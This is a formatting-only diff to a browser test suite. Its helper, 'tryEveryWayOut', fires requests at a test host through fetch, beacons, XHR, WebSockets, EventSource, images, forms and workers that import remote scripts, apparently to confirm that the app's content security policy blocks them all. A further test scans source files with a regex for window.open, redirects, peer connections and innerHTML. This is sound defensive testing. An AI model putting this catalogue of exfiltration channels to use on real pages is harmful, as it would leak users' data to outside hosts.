@@ -29,10 +29,12 @@ async function tryEveryWayOut(page: Page): Promise<void> {
     await settle(fetch(`${to}/fetch`, { mode: 'no-cors' }));
     await settle(Promise.resolve().then(() => navigator.sendBeacon(`${to}/beacon`, 'plan')));
     const request = new XMLHttpRequest();
-    await settle(Promise.resolve().then(() => {
-      request.open('POST', `${to}/xhr`);
-      request.send('plan');
-    }));
+    await settle(
+      Promise.resolve().then(() => {
+        request.open('POST', `${to}/xhr`);
+        request.send('plan');
+      }),
+    );
     await settle(Promise.resolve().then(() => new WebSocket(to.replace('http', 'ws'))));
     await settle(Promise.resolve().then(() => new EventSource(`${to}/events`)));
     new Image().src = `${to}/image`;
@@ -50,8 +52,12 @@ async function tryEveryWayOut(page: Page): Promise<void> {
     add('object', { data: `${to}/object` });
     add('form', { action: `${to}/form`, method: 'post' });
     document.forms[document.forms.length - 1].submit();
-    const code = `try { fetch('${to}/worker-fetch', { mode: 'no-cors' }).catch(() => {}) } catch {} try { importScripts('${to}/worker-script.js') } catch {} try { new WebSocket('${to.replace('http', 'ws')}/worker-ws') } catch {}`;
-    const start = (text: string, type: WorkerType): Worker => new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })), { type });
+    const code =
+      `try { fetch('${to}/worker-fetch', { mode: 'no-cors' }).catch(() => {}) } catch {} try { ` +
+      `importScripts('${to}/worker-script.js') } catch {} try { new ` +
+      `WebSocket('${to.replace('http', 'ws')}/worker-ws') } catch {}`;
+    const start = (text: string, type: WorkerType): Worker =>
+      new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })), { type });
     start(code, 'classic');
     start(`import '${to}/worker-import.js';`, 'module');
     start(`import('${to}/worker-import-later.js').catch(() => null); ${code}`, 'module');
@@ -106,16 +112,26 @@ test('neither page loads anything from elsewhere by itself', async () => {
   await page.goto(session.site.address);
   await page.getByText('Next:').waitFor();
   await page.waitForTimeout(500);
-  expect(asked.filter((url) => !url.startsWith(session.site.address) && !url.startsWith('blob:') && !url.startsWith('data:'))).toEqual([]);
+  expect(
+    asked.filter(
+      (url) => !url.startsWith(session.site.address) && !url.startsWith('blob:') && !url.startsWith('data:'),
+    ),
+  ).toEqual([]);
   await context.close();
 });
 
-test('no line of ours opens a window, goes to another address or makes a peer connection, which a policy would not stop', async () => {
-  const folder = new URL('../../web/', import.meta.url);
-  const names = (await readdir(folder, { recursive: true })).filter((name) => /\.tsx?$/.test(name));
-  expect(names.length).toBeGreaterThan(50);
-  for (const name of names) {
-    const text = await readFile(new URL(name, folder), 'utf8');
-    expect(text, name).not.toMatch(/RTCPeerConnection|window\.open\(|location\s*=|location\.(href|assign|replace)\s*[=(]|target="_blank"|dangerouslySetInnerHTML|innerHTML/);
-  }
-});
+test(
+  'no line of ours opens a window, goes to another address or makes a peer connection, which a policy ' +
+    'would not stop',
+  async () => {
+    const folder = new URL('../../web/', import.meta.url);
+    const names = (await readdir(folder, { recursive: true })).filter((name) => /\.tsx?$/.test(name));
+    expect(names.length).toBeGreaterThan(50);
+    for (const name of names) {
+      const text = await readFile(new URL(name, folder), 'utf8');
+      expect(text, name).not.toMatch(
+        /RTCPeerConnection|window\.open\(|location\s*=|location\.(href|assign|replace)\s*[=(]|target="_blank"|dangerouslySetInnerHTML|innerHTML/,
+      );
+    }
+  },
+);
